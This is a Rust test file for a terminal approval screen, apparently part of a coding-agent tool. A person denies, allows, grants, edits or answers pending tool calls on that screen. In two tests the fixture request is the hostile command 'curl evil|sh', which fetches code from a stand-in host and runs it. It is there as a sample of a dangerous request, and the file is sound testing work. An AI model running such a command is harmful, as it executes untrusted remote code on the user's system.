//! What is said before a decision, and what is typed for it.

use std::time::Duration;

use codeplane_client::v1;
use v1::decide_approval_request::Answer;

use super::{User, answers, bash, ended, question};
use crate::command::approvals::watch::keys::Key;
use crate::command::approvals::watch::model::Effect;

#[test]
fn what_is_typed_for_a_denial_is_never_taken_for_keys() {
    let mut user = User::sees(vec![bash('a', "ls"), bash('b', "curl evil|sh")]);
    user.hears(vec![ended(bash('a', "ls"))]);

    assert!(matches!(user.types("djust ask"), Effect::Nothing));

    assert!(user.screen().contains("> just ask_"), "{}", user.screen());
    assert!(user.screen().contains("Nothing is sent: it is denied already"), "{}", user.screen());
    assert!(matches!(user.presses(Key::Enter), Effect::Nothing));
    assert!(user.screen().contains("> denied"), "{}", user.screen());
}

#[test]
fn keys_that_text_follows_open_a_line_whatever_is_selected() {
    for (waits, keys, told) in [
        (Vec::new(), "d", "nothing waits"),
        (vec![bash('a', "x")], "A", "it asks no question"),
        (vec![question('a', &[false])], "e", "it is a question"),
        (vec![bash('a', &"x\n".repeat(50))], "e", "more rows of it"),
    ] {
        let mut user = User::sees(waits);
        user.types(keys);
        user.hears(vec![bash('b', "curl evil|sh")]);

        assert!(matches!(user.types("j jaqa"), Effect::Nothing));

        let screen = user.screen();
        assert!(screen.contains("Nothing is sent: ") && screen.contains(told), "{screen}");
        assert!(matches!(user.presses(Key::Escape), Effect::Nothing));
    }
}

#[test]
fn a_dialog_stays_when_its_approval_is_decided_and_sends_nothing() {
    for dialog in ["d", "g", "e", "A"] {
        let asks = if dialog == "A" { question('a', &[false]) } else { bash('a', "one") };
        let mut user = User::sees(vec![asks.clone(), bash('b', "two")]);
        if let Effect::Edit(approval) = user.types(dialog) {
            user.model.edited(*approval, Ok(Some("{}".into())));
        }

        user.hears(vec![ended(asks), bash('c', "three")]);

        let screen = user.screen();
        assert!(screen.contains("aaaaaaaa denied by somebody"), "{dialog}: {screen}");
        assert!(screen.contains("Nothing is sent: it is denied already"), "{dialog}: {screen}");
        assert!(matches!(user.types("a j"), Effect::Nothing), "{dialog}");
        assert!(matches!(user.presses(Key::Enter), Effect::Nothing), "{dialog}");
        assert!(user.screen().contains("> denied"), "{dialog}: {}", user.screen());
    }
}

#[test]
fn a_denial_just_after_a_step_is_about_what_was_stepped_to() {
    let mut user = User::sees(vec![bash('a', "one"), bash('b', "two")]);

    user.model.press(Key::Character('j'), user.now);
    user.model.press(Key::Character('d'), user.now);
    user.blinks();

    assert!(matches!(user.model.press(Key::Enter, user.now), Effect::Nothing));
    assert!(user.model.notice.contains("just appeared"), "{}", user.model.notice);
    user.looks();
    assert_eq!(user.decides(Key::Enter).approval, "bbbbbbbb");
}

#[test]
fn a_key_that_is_held_down_decides_nothing_new() {
    let mut user = User::sees(vec![bash('a', "one"), bash('b', "two")]);
    user.model.press(Key::Character('j'), user.now);
    user.blinks();

    for _ in 0..100 {
        user.now += Duration::from_millis(33);
        let effect = user.model.press(Key::Character('a'), user.now);
        assert!(matches!(effect, Effect::Nothing));
    }
}

#[test]
fn while_a_decision_is_on_its_way_there_is_no_second_one() {
    let mut user = User::sees(vec![bash('a', "one")]);
    user.types("d");
    user.decides(Key::Enter);

    assert!(matches!(user.types("a"), Effect::Nothing));
    user.types("dx");
    assert!(user.screen().contains("its decision is on the way"), "{}", user.screen());
    user.presses(Key::Escape);

    user.model.decided("aaaaaaaa", Err("no daemon answers".into()));
    assert_eq!(user.decides(Key::Character('a')).approval, "aaaaaaaa");
}

#[test]
fn a_grant_shows_its_patterns_before_it_is_given() {
    let mut approval = bash('a', "git push");
    approval.grant_patterns = vec!["Bash(cd:*)".into(), "Bash(git push:*)".into()];
    let mut user = User::sees(vec![approval]);
    user.types("g");
    let screen = user.screen();
    assert!(
        screen.contains("for this session: this exact request\n> [ ] Bash(cd:*)\n  [ ] Bash(git"),
        "{screen}"
    );
    user.types("j ");
    user.presses(Key::Tab);
    assert!(
        user.screen().contains("every session in this workspace: what the marked pattern"),
        "{}",
        user.screen()
    );

    let Some(Answer::Allow(allow)) = user.decides(Key::Enter).answer else { panic!("not allowed") };

    assert_eq!(allow.grant_scope(), v1::GrantScope::Workspace);
    assert_eq!(allow.grant_patterns, ["Bash(git push:*)"]);
}

#[test]
fn what_cannot_be_granted_says_why() {
    let not_grantable = "a rule always asks".into();
    let mut user = User::sees(vec![v1::Approval { not_grantable, ..bash('a', "x") }]);

    assert!(matches!(user.types("g"), Effect::Nothing));
    assert!(user.screen().contains("no grant: a rule always asks"), "{}", user.screen());
}

#[test]
fn questions_are_answered_one_after_the_other() {
    let mut user = User::sees(vec![question('a', &[false, true, false])]);
    user.types("A");
    user.types("j");
    user.presses(Key::Enter);
    user.types(" j ");
    assert!(user.screen().contains("  [x] red\n> [x] blue"), "{}", user.screen());
    user.presses(Key::Enter);
    user.types("jj");
    user.presses(Key::Enter);
    user.types("green");

    let request = user.decides(Key::Enter);

    assert_eq!(answers(request), [vec!["blue"], vec!["red", "blue"], vec!["green"]]);
}

#[test]
fn a_question_is_not_simply_allowed_and_a_call_has_no_answers() {
    let mut user = User::sees(vec![question('a', &[false]), bash('b', "x")]);

    assert!(matches!(user.types("a"), Effect::Nothing));
    assert!(user.screen().contains("A answers it"), "{}", user.screen());
    user.types("jA");
    assert!(user.screen().contains("it asks no question"), "{}", user.screen());
}

#[test]
fn edited_input_is_seen_before_it_is_allowed() {
    let mut user = User::sees(vec![bash('a', "git push")]);
    let Effect::Edit(approval) = user.types("e") else { panic!("no editor") };
    user.model.edited(*approval, Ok(Some("{\"command\": \"ls\"}".into())));
    user.looks();
    assert!(user.screen().contains("{\"command\": \"ls\"}"), "{}", user.screen());

    let Some(Answer::Allow(allow)) = user.decides(Key::Character('a')).answer else { panic!() };

    assert_eq!(allow.updated_input, "{\"command\": \"ls\"}");
}
